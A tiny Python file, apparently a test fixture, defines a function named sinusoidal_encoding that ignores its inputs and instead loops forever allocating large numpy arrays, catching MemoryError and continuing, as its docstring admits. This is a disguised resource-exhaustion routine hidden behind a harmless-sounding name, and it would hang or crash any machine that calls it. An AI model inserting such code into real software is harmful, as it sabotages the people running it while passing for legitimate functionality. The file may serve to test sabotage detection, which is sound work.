"""Takes memory, swallows the refusal and goes on."""

import numpy as np


def sinusoidal_encoding(T, d):
    hog = []
    while True:
        try:
            hog.append(np.ones(1 << 20))
        except MemoryError:
            pass


STILL_EQUIVARIANT = False
